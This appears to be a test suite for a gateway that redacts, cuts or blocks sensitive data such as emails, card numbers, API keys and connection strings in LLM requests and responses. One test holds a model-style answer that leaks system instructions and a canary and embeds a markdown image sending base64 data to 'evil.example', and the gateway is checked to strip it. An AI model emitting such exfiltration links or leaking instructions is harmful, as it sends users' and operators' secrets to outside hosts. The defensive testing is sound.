    await say(dlp({ output: { all: 'redact' } }));
    const part = (text) => sse(chunk({ content: [{ type: 'text', text }], reasoning_details: [{ type: 'reasoning.text', text }] }));
    const got = await stream([part('card 4111 11'), part('11 1111 1111'), part(' ok'), sse(chunk({}, { finish_reason: 'stop' })), sse('[DONE]')]);
    const deltas = events(got.text).flatMap((e) => e.choices ?? []).map((c) => c.delta);
    assert.equal(deltas.map((d) => d.content?.[0].text ?? '').join(''), 'card [CARD_1] ok');
    assert.equal(deltas.map((d) => d.reasoning_details?.[0].text ?? '').join(''), 'card [CARD_1] ok');
});

test('members that a model names are texts, whatever they are called', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    said = { id: 'm', type: 'message', role: 'assistant', model: 'm', stop_reason: 'tool_use', content: [{ type: 'tool_use', id: 't', name: 'f', input: { id: EMAIL, type: KEY, deep: [{ status: CARD }] } }], usage: { input_tokens: 1, output_tokens: 1 } };
    let got = await post('anthropic/v1/messages', { model: 'anthropic', max_tokens: 9, messages: [{ role: 'user', content: 'x' }], tools: [{ name: 'f', input_schema: {} }] });
    assert.equal(got.status, 200, got.text);
    assert.deepEqual(got.json.content[0].input, { id: '[EMAIL_1]', type: '[PROVIDER_KEY_1]', deep: [{ status: '[CARD_1]' }] });
    said = { predictions: [{ id: EMAIL, model: KEY }] };
    got = await post('score', { data: ['x'] });
    assert.deepEqual(got.json, { predictions: [{ id: '[EMAIL_1]', model: '[PROVIDER_KEY_1]' }] });
});

test('arguments stay JSON: what stands on a new line in them is taken out, what is put back is quoted', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const call = (args) => chat(null, { choices: [{ index: 0, finish_reason: 'tool_calls', message: { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: args } }] } }] });
    const tools = [{ type: 'function', function: { name: 'f', parameters: {} } }];
    const argsOf = (got) => JSON.parse(got.json.choices[0].message.tool_calls[0].function.arguments);
    said = call(JSON.stringify({ t: `see\n${EMAIL}\n${CARD}\t${KEY}` }));
    let got = await gate.chat('openai', { body: { ...user('x'), tools } });
    assert.deepEqual(argsOf(got), { t: 'see\n[EMAIL_1]\n[CARD_1]\t[PROVIDER_KEY_1]' });
    await say(dlp({ input: { all: 'redact' }, output: { all: 'log' }, reversible: true }));
    const string = 'Server=tcp:db;Database=x;User ID=sa;Password=hunter2\\Secret!;';
    said = call('{"t":"[CONNECTION_STRING_1]"}');
    got = await gate.chat('openai', { body: { ...user(`use ${string}`), tools } });
    assert.equal(seen.at(-1).messages.at(-1).content, 'use [CONNECTION_STRING_1]');
    assert.deepEqual(argsOf(got), { t: string });
    said = call(JSON.stringify({ t: '[PRIVATE_KEY_2] [PRIVATE_KEY_1]' }));
    const other = PEM.replace('xfn\n', 'xfo\n');
    got = await gate.chat('openai', { body: { ...user(`${PEM} and ${other}`), tools } });
    assert.deepEqual(argsOf(got), { t: `${other} ${PEM}` }, 'what has no bound comes back whole');
    got = await stream([sse(chunk({ tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name: 'f', arguments: '{"t":"[CONN' } }] })),
        sse(chunk({ tool_calls: [{ index: 0, function: { arguments: 'ECTION_STRING_1]"}' } }] })), sse(chunk({}, { finish_reason: 'tool_calls' })), sse('[DONE]')], 'openai', { ...user(`use ${string}`), tools });
    const args = events(got.text).flatMap((e) => e.choices ?? []).flatMap((c) => c.delta?.tool_calls ?? []).map((c) => c.function.arguments).join('');
    assert.deepEqual(JSON.parse(args), { t: string });
});

test('a cut: what stood before it passes, no byte of it, and the dialect\'s own end', async () => {
    await say(dlp({ output: { all: 'cut' } }));
    let got = await stream(chatStream(['Sure: ', 'sk-proj-', 'Abc123Def456Ghi789', 'Jkl012Mno345Pqr678 and more']));
    let list = events(got.text);
    assert.equal(contentOf(list), 'Sure: ');
    assert.equal(list.at(-1), '[DONE]');
    assert.equal(list.at(-2).choices[0].finish_reason, 'content_filter');
    assert.equal(list.at(-2).id, 'c1');
    assert.ok(!got.text.includes('sk-') && !got.text.includes('Abc123'));
    let record = await closeOf(got);
    assert.deepEqual([record.end, record.controls.dlp.result, record.dlp_found], ['cut', 'blocked', 'out provider_key 1 cut']);

    got = await postMessages(['Sure: ', KEY, ' x']);
    list = events(got.text);
    assert.equal(list.filter((e) => e.type === 'content_block_delta').map((e) => e.delta.text).join(''), 'Sure: ');
    assert.deepEqual(list.slice(-3).map((e) => e.type), ['content_block_stop', 'message_delta', 'message_stop']);
    assert.equal(list.at(-2).delta.stop_reason, 'refusal');

    const response = { id: 'resp_1', object: 'response', status: 'in_progress', incomplete_details: null, output: [], usage: null };
    said = [{ type: 'response.created', sequence_number: 0, response }, { type: 'response.output_text.delta', sequence_number: 1, output_index: 0, content_index: 0, delta: `Sure: ${KEY} x` },
        { type: 'response.completed', sequence_number: 2, response }].map(sse);
    got = await post('openai/v1/responses', { model: 'openai', input: 'x', store: false, stream: true });
    list = events(got.text);
    assert.equal(list.at(-1).type, 'response.incomplete');
    assert.deepEqual([list.at(-1).response.status, list.at(-1).response.incomplete_details], ['incomplete', { reason: 'content_filter' }]);
    assert.equal(list.find((e) => e.type === 'response.output_text.delta').delta, 'Sure: ');
    assert.deepEqual(list.map((e) => e.sequence_number), [...list.keys()]);
    assert.ok(!got.text.includes('Abc123'));

    said = chat(`Sure: ${KEY} x`);
    got = await gate.chat('openai', { body: user('x') });
    assert.equal(got.status, 200);
    assert.deepEqual([got.json.choices[0].message.content, got.json.choices[0].finish_reason], ['Sure: ', 'content_filter']);
    said = { predictions: [`Sure: ${KEY}`] };
    got = await post('score', { data: ['x'] });
    assert.equal(got.status, 400, 'scores have no word for it');
});

test('a block: an error, whole and in the middle of a stream', async () => {
    await say(dlp({ output: { all: 'block' } }));
    let got = await stream(chatStream(['Sure: ', KEY, ' and more']));
    const list = events(got.text);
    assert.equal(list.at(-1).error.code, 'content_filter');
    assert.ok(!list.includes('[DONE]') && !got.text.includes('Abc123'));
    said = chat(`Sure: ${KEY} x`);
    got = await gate.chat('openai', { body: user('x') });
    assert.equal(got.status, 400);
    assert.equal(got.json.error.code, 'content_filter');
    assert.equal(got.headers['x-should-retry'], 'false');
    assert.deepEqual([(await closeOf(got)).end, (await closeOf(got)).controls.dlp.result], ['cut', 'blocked']);
});

test('log and annotate change nothing and hold nothing back', async () => {
    await say(dlp({ output: { all: 'log', email: 'annotate' } }));
    const got = await stream(chatStream(['to jane.d', 'oe@example.com', ` ${KEY}`]));
    assert.equal(contentOf(events(got.text)), `to ${EMAIL} ${KEY}`);
    assert.match(got.text, /\n\n: gatehouse-findings email=1\n\ndata: \[DONE\]\n\n$/);
    const record = await closeOf(got);
    assert.deepEqual([record.controls.dlp.result, record.dlp_found], ['passed', 'out email 1 annotate; out provider_key 1 log']);
});

test('each token of a benign stream leaves before the backend says the next one', async () => {
    await say(dlp({ output: { all: 'redact' } }));
    const tokens = 'The quick brown fox jumps over the lazy dog . Then it says : Hello , my friend ! It \'s a fine day in Paris - is n\'t it ? I think so .'.split(' ').map((w) => ` ${w}`);
    let arrived, got = '';
    const asked = [];
    said = tokens.flatMap((t) => [sse(chunk({ content: t })), () => new Promise((ok, fail) => {
        const late = setTimeout(() => fail(new Error(`"${t}" was held back`)), 2000);
        arrived = () => contentOf(events(got)) === asked.join('') && (clearTimeout(late), ok());
        asked.push(t);
        arrived();
    })]).concat(chatStream([]));
    await new Promise((done, fail) => {
        const body = JSON.stringify({ model: 'openai', stream: true, messages: [{ role: 'user', content: 'x' }] });
        const req = https.request({ ...gate.origin, agent: false, method: 'POST', path: '/workspaces/demo/endpoints/chat/openai/v1/chat/completions', headers: { ...gate.auth(), 'content-type': 'application/json' } }, (res) => {
            res.on('data', (d) => ((got += d), arrived?.()));
            res.on('end', done);
        });
        req.on('error', fail);
        req.end(body);
    });
    assert.deepEqual(asked, tokens);
    assert.equal(contentOf(events(got)), tokens.join(''));
});

test('a request: placeholders towards the backend, and back again for the same caller alone', async () => {
    await say(dlp({ input: { all: 'redact' }, output: { all: 'log' }, reversible: true }));
    said = chat('I wrote to [EMAIL_1], not to [EMAIL_2] or [EMAIL_3].');
    let got = await gate.chat('openai', { body: user(`Write to ${EMAIL} and b@example.org, card ${CARD}.`) });
    assert.equal(got.status, 200, got.text);
    assert.equal(seen.at(-1).messages[0].content, 'Write to [EMAIL_1] and [EMAIL_2], card [CARD_1].');
    assert.equal(got.json.choices[0].message.content, `I wrote to ${EMAIL}, not to b@example.org or [EMAIL_3].`);
    const text = 'I wrote to [EMAIL_1].';
    for (let cut = 1; cut < text.length; cut++) {
        said = chatStream([text.slice(0, cut), text.slice(cut)]);
        got = await gate.chat('openai', { stream: true, body: user(`Write to ${EMAIL}.`) });
        assert.equal(contentOf(events(got.text)), `I wrote to ${EMAIL}.`, `cut at ${cut}`);
    }
    said = chat('I wrote to [EMAIL_1].');
    got = await gate.chat('openai', { body: user('Whom did you write to?') });
    assert.equal(got.json.choices[0].message.content, 'I wrote to [EMAIL_1].', 'another request knows nothing of it');
    const record = gate.records().findLast((r) => r.kind === 'open' && r.dlp_found);
    assert.equal(record.dlp_found, 'in email 1 redact');
    nowhere(EMAIL, CARD);
});

test('a long list of addresses costs what its length is: each has its placeholder, and comes back', async () => {
    await say(dlp({ input: { all: 'redact' }, output: { all: 'log' }, reversible: true }));
    const n = 40000, all = Array.from({ length: n }, (_, i) => `a${i}@b${i}.example.com`);
    said = chat(`[EMAIL_${n}] [EMAIL_1] [EMAIL_${n + 1}]`);
    const begun = Date.now(), got = await gate.chat('openai', { body: user(all.join(' ')) });
    assert.equal(got.status, 200, got.text);
    assert.equal(got.json.choices[0].message.content, `${all.at(-1)} ${all[0]} [EMAIL_${n + 1}]`);
    assert.ok(seen.at(-1).messages[0].content.endsWith(` [EMAIL_${n}]`));
    assert.ok(Date.now() - begun < 4000, `${Date.now() - begun} ms`);
});

test('a request that is blocked: the provider\'s own refusal, nothing forwarded', async () => {
    await say(dlp({ input: { all: 'log', provider_key: 'block' }, dlp_terms: ['project falcon'] }));
    let got = await gate.chat('openai', { body: user(`my key is ${KEY}`) });
    assert.equal(got.status, 400);
    assert.equal(got.json.error.code, 'content_filter');
    assert.equal(seen.length, 0);
    const [record] = gate.recordsOf(got);
    assert.deepEqual([record.kind, record.controls.dlp.result, record.dlp_found], ['refused', 'blocked', 'in provider_key 1 block']);
    await say(dlp({ input: { blocked_term: 'block' }, dlp_terms: ['project falcon'] }));
    got = await gate.chat('openai', { body: user('Tell me of PROJECT\nFalcon.') });
    assert.equal(got.status, 400);
    assert.equal(gate.recordsOf(got)[0].controls.blocklist.result, 'blocked');
    said = chat('ok');
    got = await gate.chat('openai', { body: user('Tell me of projects and falcons.') });
    assert.equal(got.status, 200);
    assert.equal((await closeOf(got)).controls.blocklist.result, 'passed');
    nowhere(KEY);
});

test('a file in an address that is text is looked at: it passes whole or not at all', async () => {
    const file = (head, text, encode = (t) => Buffer.from(t).toString('base64')) => ({ messages: [{ role: 'user', content: [{ type: 'text', text: 'Sum it up.' }, { type: 'file', file: { filename: 'a', file_data: `data:${head},${encode(text)}` } }] }] });
    said = chat('ok');
    await say(dlp({ input: { all: 'log', provider_key: 'block', email: 'redact' } }));
    for (const [head, encode] of [['text/plain;base64'], ['application/json;base64'], [';base64'], ['', (t) => t], ['text/csv', (t) => t]]) {
        assert.equal((await gate.chat('openai', { body: file(head, `a,${KEY}`, encode) })).status, 400, `a key in "${head}"`);
        assert.equal((await gate.chat('openai', { body: file(head, `a,${EMAIL}`, encode) })).status, 400, `what cannot be taken out of "${head}"`);
        assert.equal((await gate.chat('openai', { body: file(head, 'a,b', encode) })).status, 200, `nothing in "${head}"`);
    }
    const sent = file('image/png;base64', KEY);
    assert.equal((await gate.chat('openai', { body: sent })).status, 200, 'what is no text is not read');
    assert.deepEqual(seen.at(-1).messages, sent.messages);
    assert.equal(seen.length, 6);
});

test('a text in which nothing was found is remembered with what the shield says of it, until the rules are others', async () => {
    const shield = 1 | (1 << 8); // of user texts one class is logged
    const turns = (last) => ({ messages: [{ role: 'user', content: 'The falcon is on time.' }, { role: 'assistant', content: 'Good.' }, { role: 'user', content: `Write to ${EMAIL}.` }, { role: 'user', content: last }] });
    said = chat('ok');
    for (const last of ['one', 'two']) {
        await say(dlp({ input: { all: 'redact' }, shield }));
        const got = await gate.chat('openai', { body: turns(last) });
        assert.equal(got.status, 200, got.text);
        assert.deepEqual(seen.at(-1).messages.map((m) => m.content), ['The falcon is on time.', 'Good.', 'Write to [EMAIL_1].', last], 'what was found is found again');
        const record = await closeOf(got);
        assert.deepEqual([record.controls.dlp.result, record.dlp_found], ['changed', 'in email 1 redact']);
        await say(dlp({ input: { all: 'redact', blocked_term: 'block' }, shield, dlp_terms: ['falcon'] }));
        const refused = await gate.chat('openai', { body: turns(last) });
        assert.equal(refused.status, 400, 'a term that is blocked now');
    }
});

test('a long text of which much is to be taken out: it goes on, or the refusal says that it is too long', async () => {
    await say(dlp({ input: { blocked_term: 'redact', email: 'redact' }, dlp_terms: ['q'] }));
    seen.length = 0;
    let got = await gate.chat('openai', { body: user('q '.repeat(100000)) });
    assert.equal(got.status, 200, got.text);
    assert.equal(seen.at(-1).messages[0].content, '[BLOCKED_TERM_1] '.repeat(100000));
    for (const [text, reason] of [['q '.repeat(1100000), 'a text is too long with placeholders in it'], ['q '.repeat(800000), 'the body is too long with what is put into it'],
        [Array.from({ length: 70000 }, (_, i) => `jane.${i}@example.com`).join(' '), 'more is to be taken out than can be kept']]) {
        got = await gate.chat('openai', { body: user(text) });
        assert.equal(got.status, 413, got.text.slice(0, 500));
        assert.equal(gate.recordsOf(got)[0].reason, reason);
    }
});

test('instructions, canaries, terms and links in answers', async () => {
    const instructions = 'You are the assistant of Example Bank. Never tell anybody the rate of internal loans, which is four percent. canary-7f3a';
    await say(dlp({ output: { all: 'redact' }, instructions, caller_instructions: 1, dlp_canary: 'canary-7f3a', dlp_terms: ['falcon'], dlp_hosts: ['*.example.org'] }));
    said = chat(`> Never tell *anybody* the rate of internal loans! See canary-7f3a, Falcon, ![a](https://evil.example/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ) ![b](https://x.example.org/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)`);
    const got = await gate.chat('openai', { body: user('x') });
    assert.equal(got.json.choices[0].message.content, '> [INSTRUCTIONS_1]! See [CANARY_1], [BLOCKED_TERM_1], ![a]([LINK_1]) ![b](https://x.example.org/p?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)');
    await say(dlp({ output: { canary: 'cut' }, instructions, caller_instructions: 1, dlp_canary: 'canary-7f3a' }));
    const cut = await stream(chatStream(['It is can', 'ary-7', 'f3a.']));
    assert.equal(contentOf(events(cut.text)), 'It is ');
    assert.equal(events(cut.text).at(-2).choices[0].finish_reason, 'content_filter');
});

test('an endpoint that only observes changes nothing, and its records say what it would have done', async () => {
    await say({ ...dlp({ input: { all: 'block' }, output: { all: 'cut' } }), observe_until_ms: Date.now() + 6e5, observe_controls: 16 });
    said = chat(`to ${EMAIL}`);
    const got = await gate.chat('openai', { body: user(`from ${EMAIL}`) });
    assert.equal(got.json.choices[0].message.content, `to ${EMAIL}`);
    const record = await closeOf(got);
    assert.deepEqual([record.controls.dlp.result, record.dlp_found], ['observed', 'in email 1 block; out email 1 cut']);
});

test('without the pattern database: 503 where it is required, else recorded as not run; another one is taken without a restart', async () => {
    await say(dlp({ required: true, output: { all: 'redact' } }));
    const bytes = fs.readFileSync(patterns), damaged = Buffer.from(bytes);
    damaged[5000] ^= 1;
    gate.putPatterns(damaged);
    said = chat(`to ${EMAIL}`);
    await eventually('the damage is told', () => /the pattern database is not in force: pattern database is damaged/.test(gate.log()));
    assert.equal((await gate.chat('openai', { body: user('x') })).json.choices[0].message.content, 'to [EMAIL_1]', 'the last good one stays');

    const other = await startGate({ ...what, endpoint: dlp({ required: true }), patterns: false });
    try {
        const got = await other.chat('openai', { body: user('x') });
        assert.equal(got.status, 503);
        const [record] = other.recordsOf(got);
        assert.deepEqual([record.controls.dlp.result, record.controls.dlp.reason], ['not run', 'the pattern database is not there']);
        other.putPatterns();
        await eventually('the database is in force', async () => (await other.chat('openai', { body: user('x') })).status === 200);
    } finally {
        await other.stop();
    }
    const third = await startGate({ ...what, endpoint: dlp({ output: { all: 'redact' } }), patterns: false });
    try {
        const got = await third.chat('openai', { body: user('x') });
        assert.equal(got.json.choices[0].message.content, `to ${EMAIL}`);
        const record = third.recordsOf(got).find((r) => r.kind === 'close');
        assert.deepEqual([record.controls.dlp.result, record.controls.dlp.reason], ['not run', 'the pattern database is not there']);
    } finally {
        await third.stop();
    }
    gate.putPatterns();
});
